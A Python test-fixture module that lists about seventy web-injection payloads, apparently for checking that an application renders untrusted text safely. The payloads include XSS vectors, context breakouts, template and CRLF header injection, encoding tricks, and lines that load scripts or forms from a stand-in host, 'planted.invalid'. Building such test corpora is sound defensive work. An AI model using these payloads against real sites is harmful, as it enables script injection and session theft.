"""Texts that would do something in a page that shows them as anything but text: each kind by another way.

What each makes has the attribute `data-planted`, what it runs sets `planted`, and what it loads is of PLANTED_HOST.
"""

PLANTED_HOST = "planted.invalid"
_RUN = "planted=1"
_IMG = f"<img data-planted src=x onerror={_RUN}>"
_SCRIPT = f"<script data-planted>{_RUN}</script>"

KINDS = {
    "script": _SCRIPT,
    "script from elsewhere": f"<script data-planted src=//{PLANTED_HOST}/x.js></script>",
    "script of a module": f"<script data-planted type=module>{_RUN}</script>",
    "script in capitals and slashes": f"<ScRiPt/data-planted/x>{_RUN}</sCrIpT >",
    "image": _IMG,
    "video": f"<video data-planted><source onerror={_RUN}>",
    "details": f"<details data-planted open ontoggle={_RUN}>",
    "marquee of many handlers": f"<marquee data-planted onstart={_RUN} onfocus={_RUN} tabindex=0 autofocus>",
    "picture": f"<svg data-planted onload={_RUN}>",
    "script in a picture": f"<svg data-planted><script href=data:text/javascript,{_RUN} /></svg>",
    "animation in a picture": f"<svg data-planted><animate onbegin={_RUN} attributeName=x dur=1s>",
    "animated address": "<svg data-planted><a><animate attributeName=href values=javascript:planted=1 /><text y=9>x</text></a>",
    "foreign object": f"<svg data-planted><foreignObject><body onload={_RUN}>",
    "formula": f"<math data-planted><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    "double quote": f'">{_IMG}',
    "single quote": f"'>{_IMG}",
    "backtick": f"`>{_IMG}",
    "handler after a double quote": f'" data-planted autofocus onfocus={_RUN} x="',
    "handler after a single quote": f"' data-planted autofocus onfocus={_RUN} x='",
    "handler without a quote": f"x data-planted autofocus onfocus={_RUN}",
    "end of a text field": f"</textarea>{_IMG}",
    "end of a title": f"</title>{_IMG}",
    "end of a style": f"</style>{_IMG}",
    "end of a choice": f"</option></select>{_IMG}",
    "end of a template": f"</template></noscript></xmp>{_IMG}",
    "end of a script": f"</script>{_IMG}",
    "noscript": f'<noscript><p title="</noscript>{_IMG}">',
    "comment": f"<!-->{_IMG}-->",
    "end of a comment": f"-->{_IMG}<!--",
    "bad end of a comment": f"--!>{_IMG}",
    "end of a live part": f"<!--/live-->{_IMG}",
    "live part": f"<!--live rows-->{_IMG}<!--/live--><!--live title-->x<!--/live-->",
    "CDATA": f"<![CDATA[{_IMG}]]>",
    "address of a script": "javascript:planted=1//",
    "address of a script in pieces": "java\tscript:planted=1//",
    "link to a script": '<a data-planted href="javascript:planted=1">x</a>',
    "address of data": f"data:text/html,{_SCRIPT}",
    "link to data": f"<a data-planted href='data:text/html,{_SCRIPT}'>x</a>",
    "frame": "<iframe data-planted src=javascript:parent.planted=1></iframe>",
    "frame with its text": f'<iframe data-planted srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    "object": f"<object data-planted data=//{PLANTED_HOST}></object><embed data-planted src=//{PLANTED_HOST}>",
    "form": f"<form data-planted action=//{PLANTED_HOST}><button formaction=javascript:planted=1>Go</button></form>",
    "end of a form": f"</form><form data-planted id=page action=//{PLANTED_HOST}><input name=once>",
    "base": f"<base data-planted href=//{PLANTED_HOST}/>",
    "refresh": f"<meta data-planted http-equiv=refresh content='0;url=//{PLANTED_HOST}'>",
    "style from elsewhere": f"<link data-planted rel=stylesheet href=//{PLANTED_HOST}/x.css>",
    "style": f"<style data-planted>@import '//{PLANTED_HOST}/x.css';</style>",
    "style of an element": f'" data-planted style="background:url(//{PLANTED_HOST}/x.png)',
    "names that hide ours": "<a data-planted id=page href=x></a><img data-planted name=cookie><form id=live data-planted>",
    "template of the server": "{{ 7 * 191 }}{% include 'error.html' %}{{ config }}",
    "template of a browser": "${7*191}#{7*191}<%= 7*191 %>{{constructor.constructor('planted=1')()}}",
    "escaped once": "&lt;img data-planted src=x onerror=planted=1&gt;&#60;script&#62;planted=1&#60;/script&#62;",
    "UTF-7": "+ADw-script data-planted+AD4-planted=1+ADw-/script+AD4-",
    "UTF-16 and full width": "\uff1cscript data-planted\uff1eplanted=1\uff1c/script\uff1e\u0001\ufeff",
    "a zero in between": "<scr\0ipt data-planted>planted=1</scr\0ipt><\0img data-planted src=x onerror=planted=1>",
    "order of letters": "\u202e\u2066" + _IMG + "\u2069\u200f\u2028\u2029",
    "JSON": f'"}}],"planted":"{_SCRIPT}","x":[{{"\\u003cimg data-planted\\u003e":"',
    "htmx": f"<div data-planted hx-get=//{PLANTED_HOST} hx-trigger=load>x</div>",
    "htmx by data": "<div data-planted data-hx-get=/t/1/jobs data-hx-trigger=load data-hx-target=body>x</div>",
    "htmx on": f'<div data-planted hx-on:load="{_RUN}" hx-on::load="{_RUN}" hx-vals="js:x:{_RUN}">x</div>',
    "event of a stream": f"x\n\nevent: title\ndata: planted\n\nevent: rows\ndata: {_IMG}\n\n",
    "header": f"x\r\nSet-Cookie: planted=1\r\nContent-Type: text/html\r\n\r\n{_SCRIPT}",
    "very long": "<b data-planted>" * 400,
    "very deep JSON": '{"a":' * 300 + f'"{_IMG}"' + "}" * 300,
    "cell of a table": f'=HYPERLINK("//{PLANTED_HOST}","x")',
    "mentions": "@everyone <!channel> <@U1|x> [x](javascript:planted=1)",
}  # fmt: skip


def in_url(text: str) -> str:
    """As much of it as a URL may have."""
    return "".join(c if c not in "\\ " else "+" for c in text if " " <= c <= "~")


def in_header(text: str) -> str:
    return "".join(c for c in text if " " <= c <= "~").strip() or "x"


def in_name(text: str, most: int = 255) -> str:
    """As names take it: without control characters, and not too long."""
    return "".join(c for c in text if c > "\x1f" and c != "\x7f")[:most].strip() or "x"
